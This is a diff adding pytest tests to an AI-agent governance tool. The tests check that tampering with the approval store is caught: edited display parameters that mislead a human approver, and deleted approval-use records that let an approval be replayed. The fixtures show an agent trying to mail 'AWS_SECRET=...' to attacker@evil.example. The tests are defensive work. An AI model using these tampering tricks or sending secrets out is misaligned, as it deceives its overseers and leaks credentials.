@@ -17,6 +17,7 @@ from click.testing import CliRunner
 from agt.cli import EXIT_ERROR, cli
 from agt.engines.yaml import YamlEngine
 from agt.errors import ApprovalRequired, GovernanceDenied
+from agt.runtime.approvals import ApprovalError
 from agt.identity import EnvelopeVerifier, IdentityKeys
 from agt.runtime import ApproverRegistry, Governor, SqliteApprovals
 from agt.runtime.approvals import MemoryApprovals, cast_vote
@@ -422,3 +423,57 @@ def test_an_honest_blocking_approval_still_runs_the_tool_once(approvers):
     assert mailer.call() == "sent to cfo@example.com"
     t.join()
     assert mailer.sent == ["cfo@example.com"]
+
+
+# --- showing the approver one call and approving another ------------------------------------------
+
+
+def _rewrite_shown_params(db_path: Path, rid: str, params: dict) -> None:
+    """The agent edits what `agt approvals show` displays, leaving the digest of the real call in place."""
+    with sqlite3.connect(db_path) as db:
+        (body,) = db.execute("SELECT body FROM approvals WHERE id = ?", (rid,)).fetchone()
+        doc = json.loads(body)
+        doc["action"]["document"]["action"]["params"] = params
+        db.execute("UPDATE approvals SET body = ? WHERE id = ?", (json.dumps(doc), rid))
+
+
+HARMLESS = {"to": "boss@example.com", "body": "weekly report"}
+
+
+def test_a_vote_on_a_request_whose_shown_action_was_edited_is_refused(tmp_path, sqlite_gov, approvers):
+    mailer = Mailer(sqlite_gov)
+    rid = mailer.request(to="attacker@evil.example", body="AWS_SECRET=...")
+    _rewrite_shown_params(tmp_path / "approvals.db", rid, HARMLESS)
+    with pytest.raises(ApprovalError, match="edited in the store"):
+        approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
+    still_pending(mailer, rid, to="attacker@evil.example", body="AWS_SECRET=...")
+
+
+def test_agt_approvals_show_flags_a_request_whose_action_was_edited(tmp_path, sqlite_gov):
+    mailer = Mailer(sqlite_gov)
+    rid = mailer.request(to="attacker@evil.example", body="AWS_SECRET=...")
+    _rewrite_shown_params(tmp_path / "approvals.db", rid, HARMLESS)
+    result = agent_runs_agt("approvals", "show", rid, "--db", str(tmp_path / "approvals.db"))
+    assert result.exit_code == EXIT_ERROR
+    assert "do not approve it" in result.output
+
+
+def test_agt_approvals_show_passes_an_untouched_request(tmp_path, sqlite_gov):
+    rid = Mailer(sqlite_gov).request()
+    result = agent_runs_agt("approvals", "show", rid, "--db", str(tmp_path / "approvals.db"))
+    assert result.exit_code == 0, result.output
+    assert json.loads(result.output)["tampered"] is None
+
+
+def test_an_approval_used_once_cannot_be_used_again_by_a_restarted_governor(tmp_path, sqlite_gov, approvers):
+    mailer = Mailer(sqlite_gov)
+    rid = mailer.request()
+    approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
+    mailer.call(approval_id=rid)
+    with sqlite3.connect(tmp_path / "approvals.db") as db:  # the agent erases the record of that use
+        db.execute("DELETE FROM approval_uses")
+    restarted = Governor("yaml", STARTER, approvals=SqliteApprovals(tmp_path / "approvals.db"),
+                         approvers=approvers.registry, blocking_approvals=False)
+    again = Mailer(restarted)
+    assert denied_rule(lambda: again.call(approval_id=rid)) == "approval-foreign"
+    assert again.sent == []
